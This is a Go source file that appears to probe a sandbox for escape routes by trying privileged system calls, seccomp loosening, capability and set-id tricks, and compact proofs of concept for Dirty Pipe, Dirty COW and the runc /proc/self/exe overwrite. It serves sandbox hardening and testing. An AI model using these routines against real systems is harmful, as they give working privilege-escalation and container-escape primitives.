package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// escapeCalls are further system calls that come with an answer and nothing else.
var escapeCalls = map[string]func() error{
	"fsconfig":          sys(unix.SYS_FSCONFIG, 0, 1),
	"fsmount":           sys(unix.SYS_FSMOUNT, 0),
	"fspick":            sys(unix.SYS_FSPICK, ^uintptr(99), uintptr(unsafe.Pointer(&path[0]))),
	"mount cgroup":      func() error { return unix.Mount("none", "/tmp", "cgroup", 0, "memory") },
	"mount binfmt_misc": func() error { return unix.Mount("none", "/tmp", "binfmt_misc", 0, "") },
	"mount overlay":     func() error { return unix.Mount("none", "/tmp", "overlay", 0, "lowerdir=/,upperdir=/tmp,workdir=/tmp") },
	"process_vm_writev": sys(unix.SYS_PROCESS_VM_WRITEV, 1),
	"process_madvise":   sys(unix.SYS_PROCESS_MADVISE, 1),
	"process_mrelease":  sys(unix.SYS_PROCESS_MRELEASE, 1),
	"unshare pid":       sys(unix.SYS_UNSHARE, unix.CLONE_NEWPID),
	"unshare ipc":       sys(unix.SYS_UNSHARE, unix.CLONE_NEWIPC),
	"unshare uts":       sys(unix.SYS_UNSHARE, unix.CLONE_NEWUTS),
	"unshare cgroup":    sys(unix.SYS_UNSHARE, unix.CLONE_NEWCGROUP),
	"clone mount":       sys(unix.SYS_CLONE, unix.CLONE_NEWNS|uintptr(syscall.SIGCHLD)),
	"clone pid":         sys(unix.SYS_CLONE, unix.CLONE_NEWPID|uintptr(syscall.SIGCHLD)),
	"clone cgroup":      sys(unix.SYS_CLONE, unix.CLONE_NEWCGROUP|uintptr(syscall.SIGCHLD)),
	"kexec_file_load":   sys(unix.SYS_KEXEC_FILE_LOAD),
	"delete_module":     sys(unix.SYS_DELETE_MODULE),
	"swapoff":           sys(unix.SYS_SWAPOFF),
	"setdomainname":     func() error { return unix.Setdomainname([]byte("x")) },
	"executable stacks": sys(unix.SYS_PERSONALITY, 0x0400000), // READ_IMPLIES_EXEC
	"migrate_pages":     sys(unix.SYS_MIGRATE_PAGES, 1),
	"set_mempolicy":     sys(unix.SYS_SET_MEMPOLICY, 0),
	"io_uring_enter":    sys(unix.SYS_IO_URING_ENTER),
	"io_uring_register": sys(unix.SYS_IO_URING_REGISTER),
	"io_setup":          sys(unix.SYS_IO_SETUP, 60000, uintptr(unsafe.Pointer(&buf[0]))),
	"io_submit":         sys(unix.SYS_IO_SUBMIT),
	"io_destroy":        sys(unix.SYS_IO_DESTROY),
	"io_getevents":      sys(unix.SYS_IO_GETEVENTS),
	"io_cancel":         sys(unix.SYS_IO_CANCEL),
	"io_pgetevents":     sys(unix.SYS_IO_PGETEVENTS),
	// without a reservation, so that they are there even if no pages are
	"huge pages":        sys(unix.SYS_MMAP, 0, 2<<20, unix.PROT_READ, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS|unix.MAP_HUGETLB|unix.MAP_NORESERVE, ^uintptr(0)),
	"huge memfd":        sys(unix.SYS_MEMFD_CREATE, uintptr(unsafe.Pointer(&path[0])), unix.MFD_HUGETLB),
	"huge segment":      sys(unix.SYS_SHMGET, 0, 2<<20, 0o4000|unix.IPC_CREAT|0o600),
	"mq_open":           sys(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(&path[1])), unix.O_CREAT|unix.O_RDWR, 0o600),
	"vhangup":           sys(unix.SYS_VHANGUP),
	"lookup_dcookie":    sys(unix.SYS_LOOKUP_DCOOKIE),
	"statmount":         sys(457),
	"listmount":         sys(458),
	"cachestat":         sys(451),
	"foreign table":     sys(0x40000000 + 39), // x32's getpid
	"paste to terminal": sys(unix.SYS_IOCTL, 0, 0x541c, uintptr(unsafe.Pointer(&buf[0]))),
	"raise nproc":       func() error { return raise(unix.RLIMIT_NPROC) },
	"raise core":        func() error { return raise(unix.RLIMIT_CORE) },
	"raise memlock":     func() error { return raise(unix.RLIMIT_MEMLOCK) },
	"limits of init":    func() error { return unix.Prlimit(1, unix.RLIMIT_NOFILE, &unix.Rlimit{Cur: 3, Max: 3}, nil) },
	"setresuid 0":       sys(unix.SYS_SETRESUID, 0, 0, 0),
	"capset":            capset,
	"ambient": func() error {
		return unix.Prctl(unix.PR_CAP_AMBIENT, unix.PR_CAP_AMBIENT_RAISE, unix.CAP_SYS_ADMIN, 0, 0)
	},
	"securebits":          func() error { return unix.Prctl(unix.PR_SET_SECUREBITS, 0, 0, 0, 0) },
	"no_new_privs off":    func() error { return unix.Prctl(unix.PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0) },
	"another's map":       sys(unix.SYS_PRCTL, unix.PR_SET_MM, unix.PR_SET_MM_BRK, 4096),
	"real time":           sys(unix.SYS_SCHED_SETSCHEDULER, 0, 1, uintptr(unsafe.Pointer(&one))),
	"negative nice":       func() error { return unix.Setpriority(unix.PRIO_PROCESS, 0, -20) },
	"real-time io":        sys(unix.SYS_IOPRIO_SET, 1, 0, 1<<13),
	"wake the machine":    sys(unix.SYS_TIMERFD_CREATE, 8, 0), // CLOCK_REALTIME_ALARM
	"privileged port":     privilegedPort,
	"another's interface": interfaceFlags,
	"new address":         newAddress,
	"mark packets":        func() error { return option(unix.SOL_SOCKET, unix.SO_MARK, 1) },
	"foreign source":      func() error { return option(unix.SOL_IP, unix.IP_TRANSPARENT, 1) },
	"huge buffers":        func() error { return option(unix.SOL_SOCKET, unix.SO_RCVBUFFORCE, 1<<30) },
	"outer namespace":     func() error { return outer("user", unix.NS_GET_PARENT) },
	"outer processes":     func() error { return outer("pid", unix.NS_GET_PARENT) },
	"mknod block":         func() error { return unix.Mknod("/tmp/vda", unix.S_IFBLK|0o600, int(unix.Mkdev(254, 0))) },
	"file capabilities":   fileCapabilities,
	"trusted attribute":   func() error { return ownAttribute("trusted.overlay.opaque") },
}

var one = uint32(1)

func raise(resource int) error {
	return unix.Setrlimit(resource, &unix.Rlimit{Cur: 1 << 40, Max: 1 << 40})
}

func capset() error {
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	all := [2]unix.CapUserData{{Effective: ^uint32(0), Permitted: ^uint32(0)}, {}}
	return unix.Capset(&hdr, &all[0])
}

// with makes a datagram socket for f.
func with(f func(fd int) error) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return f(fd)
}

func option(level, name, value int) error {
	return with(func(fd int) error { return unix.SetsockoptInt(fd, level, name, value) })
}

func privilegedPort() error {
	return with(func(fd int) error { return unix.Bind(fd, &unix.SockaddrInet4{Port: 67}) })
}

func interfaceFlags() error {
	return with(func(fd int) error {
		r, err := unix.NewIfreq("lo")
		if err != nil {
			return err
		}
		r.SetUint16(0) // down
		_, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.SIOCSIFFLAGS, uintptr(unsafe.Pointer(r)))
		if errno != 0 {
			return errno
		}
		return nil
	})
}

// newAddress asks the kernel, through the one netlink family that there is, for an address of lo.
func newAddress() error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	var m struct {
		head unix.NlMsghdr
		addr unix.IfAddrmsg
		attr unix.RtAttr
		ip   [4]byte
	}
	m.head = unix.NlMsghdr{Len: uint32(unsafe.Sizeof(m)), Type: unix.RTM_NEWADDR, Flags: unix.NLM_F_REQUEST | unix.NLM_F_ACK | unix.NLM_F_CREATE}
	m.addr = unix.IfAddrmsg{Family: unix.AF_INET, Prefixlen: 32, Index: 1}
	m.attr, m.ip = unix.RtAttr{Len: 8, Type: unix.IFA_LOCAL}, [4]byte{192, 0, 2, 1}
	if err := unix.Sendto(fd, unsafe.Slice((*byte)(unsafe.Pointer(&m)), unsafe.Sizeof(m)), 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	answer := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, answer, 0)
	if err != nil || n < unix.NLMSG_HDRLEN+4 {
		return errors.Join(err, errors.New("no answer"))
	}
	if code := *(*int32)(unsafe.Pointer(&answer[unix.NLMSG_HDRLEN])); code != 0 {
		return syscall.Errno(-code)
	}
	return nil
}

// outer asks for the namespace around one's own.
func outer(kind string, request uintptr) error {
	f, err := os.Open("/proc/self/ns/" + kind)
	if err != nil {
		return err
	}
	defer f.Close()
	_, _, errno := unix.Syscall(unix.SYS_IOCTL, f.Fd(), request, 0)
	if errno != 0 {
		return errno
	}
	return nil
}

func ownAttribute(name string) error {
	if err := os.WriteFile("/tmp/attribute", nil, 0o700); err != nil {
		return err
	}
	return unix.Setxattr("/tmp/attribute", name, []byte("y"), 0)
}

// fileCapabilities gives a program of one's own every capability for its next execution.
func fileCapabilities() error {
	if err := os.WriteFile("/tmp/capable", nil, 0o700); err != nil {
		return err
	}
	all := make([]byte, 20) // struct vfs_cap_data, revision 2, effective
	all[0], all[3] = 1, 2
	for i := range 8 {
		all[4+i] = 0xff
	}
	return unix.Setxattr("/tmp/capable", "security.capability", all, 0)
}

// escapeActs are the longer attempts.
var escapeActs = map[string]func([]string) string{
	"directories":      func([]string) string { return directories() },
	"stale exe":        func(a []string) string { return staleProgram(a[0]) },
	"dirty pipe":       func(a []string) string { return dirtyPipe(a[0]) },
	"dirty cow":        func(a []string) string { return dirtyCow(a[0]) },
	"fileless":         func(a []string) string { return fileless(a) },
	"loose filter":     func([]string) string { return looseFilter() },
	"climb":            func([]string) string { return climb() },
	"device":           func(a []string) string { return deviceNumber(a[0]) },
	"frames":           func([]string) string { return frames() },
	"other ids":        func([]string) string { return otherIDs() },
	"own program":      func(a []string) string { return ownProgram(a) },
	"open":             func(a []string) string { return verdict(openOnly(a[0])) },
	"int80":            func([]string) string { return int80() },
	"pass":             func(a []string) string { return passDescriptors(a[0]) },
	"linger":           func(a []string) string { return passLingering(a[0]) },
	"lingering socket": func([]string) string { return lingeringSocket() },
	"reach":            func(a []string) string { return reach(a[0], a[1]) },
}

func openOnly(name string) error {
	fd, err := unix.Open(name, unix.O_RDWR|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	if err == nil {
		unix.Close(fd)
	}
	return err
}

// directories among the descriptors, through which one could walk: CVE-2024-21626 and its like.
func directories() string {
	var found []string
	for fd := range 1024 {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFDIR {
			found = append(found, strconv.Itoa(fd))
		}
	}
	return strings.Join(found, " ")
}

// staleProgram holds on to a program while it runs and writes to it when it does not any more, as
// CVE-2019-5736 did to runc's.
func staleProgram(program string) string {
	cmd := exec.Command(program, "wait")
	if err := cmd.Start(); err != nil {
		return verdict(err)
	}
	fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", cmd.Process.Pid), unix.O_PATH|unix.O_CLOEXEC, 0)
	_ = cmd.Process.Kill() // it waits
	_ = cmd.Wait()
	if err != nil {
		return verdict(err)
	}
	defer unix.Close(fd)
	f, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(fd), os.O_WRONLY, 0)
	if err == nil {
		f.Close()
	}
	return verdict(err)
}

// changed tells whether a file's second byte is not what it was.
func changed(name string, was byte) string {
	b, err := os.ReadFile(name)
	if err != nil {
		return verdict(err)
	}
	if b[1] != was {
		return "changed"
	}
	return "unchanged"
}

// dirtyPipe writes to a file's page cache through a pipe that the page was spliced into:
// CVE-2022-0847.
func dirtyPipe(name string) string {
	f, err := os.Open(name)
	if err != nil {
		return verdict(err)
	}
	defer f.Close()
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_CLOEXEC|unix.O_NONBLOCK); err != nil {
		return verdict(err)
	}
	block := make([]byte, 4096)
	for { // every buffer of the pipe gets the flag that was not cleared
		if _, err := unix.Write(p[1], block); err != nil {
			break
		}
	}
	for {
		if n, err := unix.Read(p[0], block); n <= 0 || err != nil {
			break
		}
	}
	was := make([]byte, 2)
	if _, err := f.ReadAt(was, 0); err != nil {
		return verdict(err)
	}
	at := int64(0)
	if _, err := unix.Splice(int(f.Fd()), &at, p[1], nil, 1, 0); err != nil {
		return verdict(err)
	}
	if _, err := unix.Write(p[1], []byte{was[1] + 1}); err != nil {
		return verdict(err)
	}
	return changed(name, was[1])
}

// dirtyCow writes to a private mapping of a file through /proc/self/mem, beside a thread that drops the
// copy: CVE-2016-5195.
func dirtyCow(name string) string {
	f, err := os.Open(name)
	if err != nil {
		return verdict(err)
	}
	defer f.Close()
	m, err := unix.Mmap(int(f.Fd()), 0, 4096, unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return verdict(err)
	}
	was := m[1]
	mem, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return verdict(err)
	}
	defer mem.Close()
	done := make(chan bool)
	go func() {
		for range 2000 {
			_ = unix.Madvise(m, unix.MADV_DONTNEED)
		}
		close(done)
	}()
	for range 2000 {
		_, _ = mem.WriteAt([]byte{was + 1}, int64(uintptr(unsafe.Pointer(&m[1]))))
	}
	<-done
	return changed(name, was)
}

// fileless runs this program from memory, where no mount's flags hold.
func fileless(a []string) string {
	b, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return verdict(err)
	}
	fd, err := unix.MemfdCreate("fileless", 0)
	if err != nil {
		return verdict(err)
	}
	f := os.NewFile(uintptr(fd), "fileless")
	defer f.Close()
	if _, err := f.Write(b); err != nil {
		return verdict(err)
	}
	out, err := exec.Command("/proc/self/fd/"+strconv.Itoa(fd), a...).Output()
	return either(string(out), err)
}

// ownProgram gives a copy of this program the set-id bits, and runs it.
func ownProgram(a []string) string {
	b, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return verdict(err)
	}
	if err := os.WriteFile("/tmp/own", b, 0o755); err != nil {
		return verdict(err)
	}
	if err := unix.Chmod("/tmp/own", 0o6755); err != nil {
		return verdict(err)
	}
	out, err := exec.Command("/tmp/own", a...).Output()
	_ = os.Remove("/tmp/own")
	return either(string(out), err)
}

// looseFilter adds a filter that allows everything, and tries what the first one forbids.
func looseFilter() string {
	runtime.LockOSThread()
	code := []unix.SockFilter{{Code: unix.BPF_RET | unix.BPF_K, K: unix.SECCOMP_RET_ALLOW}}
	prog := unix.SockFprog{Len: 1, Filter: &code[0]}
	if err := unix.Prctl(unix.PR_SET_SECCOMP, unix.SECCOMP_MODE_FILTER, uintptr(unsafe.Pointer(&prog)), 0, 0); err != nil {
		return verdict(err)
	}
	runtime.KeepAlive(code)
	_, _, errno := unix.RawSyscall(unix.SYS_UNSHARE, unix.CLONE_NEWUSER, 0, 0)
	return unix.ErrnoName(errno)
}

// climb goes up from a descriptor of the root, as from a chroot that another one was laid over.
func climb() string {
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return verdict(err)
	}
	defer unix.Close(root)
	if err := os.MkdirAll("/tmp/below", 0o700); err != nil {
		return verdict(err)
	}
	second := unix.Chroot("/tmp/below")
	var home unix.Stat_t
	if err := unix.Fstat(root, &home); err != nil {
		return verdict(err)
	}
	at, err := unix.Openat(root, strings.Repeat("../", 100), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return verdict(err)
	}
	defer unix.Close(at)
	var up unix.Stat_t
	if err := unix.Fstat(at, &up); err != nil {
		return verdict(err)
	}
	return fmt.Sprint(verdict(second), " ", up.Dev == home.Dev && up.Ino == home.Ino)
}

func deviceNumber(name string) string {
	var st unix.Stat_t
	if err := unix.Stat(name, &st); err != nil {
		return verdict(err)
	}
	return fmt.Sprintf("%d:%d", unix.Major(uint64(st.Rdev)), unix.Minor(uint64(st.Rdev)))
}

// frames are the physical addresses of one's own pages, which Rowhammer wants; 0 for those not told.
func frames() string {
	f, err := os.Open("/proc/self/pagemap")
	if err != nil {
		return verdict(err)
	}
	defer f.Close()
	page := make([]byte, 8192)
	page[0], page[4096] = 1, 1
	b := make([]byte, 8)
	if _, err := f.ReadAt(b, int64(uintptr(unsafe.Pointer(&page[0]))/4096*8)); err != nil {
		return verdict(err)
	}
	runtime.KeepAlive(page)
	frame := uint64(0)
	for i := range 7 { // bits 0 to 54
		frame |= uint64(b[i]) << (8 * i)
	}
	return fmt.Sprint(frame & (1<<55 - 1))
}

// otherIDs writes the map of one's own user namespace again.
func otherIDs() string {
	return verdict(os.WriteFile("/proc/self/uid_map", []byte("0 0 4294967295\n"), 0))
}

// passDescriptors sends Bastide descriptors on the channel, times over.
func passDescriptors(times string) string {
	n, _ := strconv.Atoi(times)
	fds := make([]int, 100)
	for i := range fds {
		fd, err := unix.MemfdCreate("gift", unix.MFD_CLOEXEC)
		if err != nil {
			return verdict(err)
		}
		defer unix.Close(fd)
		fds[i] = fd
	}
	for range n {
		if err := unix.Sendmsg(3, []byte("."), unix.UnixRights(fds...), nil, 0); err != nil {
			return verdict(err)
		}
	}
	return "passed"
}

// reach looks for a file of a name through every link that processes have to files.
func reach(pattern, name string) string {
	places, err := filepath.Glob(pattern)
	if err != nil {
		return verdict(err)
	}
	for _, p := range places {
		if _, err := os.Stat(p + "/" + name); err == nil {
			return p
		}
	}
	return ""
}

// passLingering sends a connection that the kernel is to close for a day, both its ends with one byte on
// descriptor 3, and keeps nothing of it. With "later" it waits for a byte first.
func passLingering(how string) string {
	if how == "later" {
		if n, err := unix.Read(3, make([]byte, 1)); err != nil || n != 1 {
			return verdict(err)
		}
	}
	a, b, err := unsent()
	if err != nil {
		return verdict(err)
	}
	flags := 0
	if how == "out of band" {
		flags = unix.MSG_OOB
	}
	err = unix.Sendmsg(3, []byte{0}, unix.UnixRights(a, b), nil, flags)
	unix.Close(b)
	if err != nil {
		_ = unix.SetsockoptLinger(a, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1}) // or the attempt is this program's own wait
	}
	unix.Close(a)
	if err != nil {
		return verdict(err)
	}
	_, _ = unix.Write(3, []byte("more")) // what is behind it must not be understood
	_, _ = unix.Read(3, make([]byte, 1))
	return "passed"
}

// unsent is a connection whose first end lingers over what the second does not read.
func unsent() (a, b int, err error) {
	l, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return 0, 0, err
	}
	defer unix.Close(l)
	if err := errors.Join(unix.Bind(l, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}), unix.Listen(l, 1)); err != nil {
		return 0, 0, err
	}
	at, err := unix.Getsockname(l)
	if err != nil {
		return 0, 0, err
	}
	if a, err = unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0); err != nil {
		return 0, 0, err
	}
	if err := unix.Connect(a, at); err != nil {
		return 0, 0, err
	}
	if b, _, err = unix.Accept(l); err != nil {
		return 0, 0, err
	}
	if err := unix.SetNonblock(a, true); err != nil {
		return 0, 0, err
	}
	for err == nil {
		_, err = unix.Write(a, make([]byte, 64<<10))
	}
	return a, b, unix.SetsockoptLinger(a, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 86400})
}
